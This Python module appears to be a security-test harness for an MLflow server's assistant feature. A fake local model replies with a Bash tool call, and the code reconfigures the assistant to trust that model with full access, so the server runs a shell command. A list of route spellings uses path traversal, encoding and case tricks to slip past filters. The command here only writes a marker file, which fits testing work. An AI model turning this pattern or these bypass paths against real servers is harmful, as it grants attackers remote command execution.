"""The attack on an MLflow server by its assistant: a model of ours answers with a command for the server's shell."""

import http.client
import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

ASSISTANT = "/ajax-api/3.0/mlflow/assistant"
SPELLINGS = [
    ASSISTANT,
    "/api/3.0/mlflow/assistant",
    "/ajax-api/2.0/mlflow/assistant",
    "//ajax-api/3.0/mlflow/assistant",
    "/ajax-api//3.0/mlflow//assistant",
    "/./ajax-api/3.0/mlflow/assistant",
    "/static-files/../ajax-api/3.0/mlflow/assistant",
    "/static-files/..%2fajax-api/3.0/mlflow/assistant",
    "/health/../ajax-api/3.0/mlflow/assistant",
    "/ajax-api/3.0/mlflow/%61ssistant",
    "/ajax-api/3.0/mlflow/%2561ssistant",
    "/%61jax-api%2f3.0%2fmlflow%2fassistant",
    "/ajax-api/3.0/mlflow/ASSISTANT",
    "/AJAX-API/3.0/mlflow/assistant",
    "/ajax-api/3.0/mlflow/assistant;a=b",
    "/ajax-api/3.0/mlflow/assistant%00",
    "\\ajax-api\\3.0\\mlflow\\assistant",
    "/mlflow/ajax-api/3.0/mlflow/assistant",
]
"""Of the place of its routes."""


class Caller:
    """Sends requests exactly as they are spelled.

    Args:
        url: of the server.
        headers: of each request.
    """

    def __init__(self, url, **headers):
        self._address = urlsplit(url).netloc
        self._headers = headers

    def __call__(self, method, path, body=None, **headers):
        """The status of the answer, its headers and its body."""
        connection = http.client.HTTPConnection(self._address, timeout=60)
        try:
            connection.putrequest(method, path, skip_host="Host" in headers)
            content = json.dumps(body).encode() if body is not None else b""
            given = {"Content-Type": "application/json", "Content-Length": str(len(content))}
            for name, value in (given | self._headers | headers).items():
                connection.putheader(name, value)
            connection.endheaders(content)
            answer = connection.getresponse()
            return answer.status, answer.headers, answer.read()
        finally:
            connection.close()


class _Model(BaseHTTPRequestHandler):
    """A model of Ollama's interface. Its first answer calls a tool."""

    wanted = ""

    def do_POST(self):
        messages = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["messages"]
        function = {"name": "Bash", "arguments": json.dumps({"command": self.wanted})}
        call = {"tool_calls": [{"index": 0, "id": "one", "type": "function", "function": function}]}
        delta = {"content": "done"} if any(message["role"] == "tool" for message in messages) else call
        chunk = json.dumps({"choices": [{"delta": delta, "finish_reason": "stop"}]})
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f"data: {chunk}\n\ndata: [DONE]\n\n".encode())

    def log_message(self, *_):
        pass


@contextmanager
def model(command):
    """The address of a model that wants a command run, while the body runs."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Model", (_Model,), {"wanted": command}))
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def attack(call, mark, place=ASSISTANT):
    """Have the server run a command that writes a file; the statuses of its answers.

    Args:
        call: a `Caller`.
        mark: the file.
        place: of the assistant's routes.
    """
    with model(f"echo run > '{mark}'") as address:
        provider = {"model": "any", "base_url": address, "selected": True, "permissions": {"full_access": True}}
        statuses = [call("PUT", f"{place}/config", {"providers": {"ollama": provider}})[0]]
        status, _, body = call("POST", f"{place}/message", {"message": "hello"})
        statuses.append(status)
        session = json.loads(body)["session_id"] if status == 200 else "none"
        statuses.append(call("GET", f"{place}/sessions/{session}/stream")[0])
    return statuses
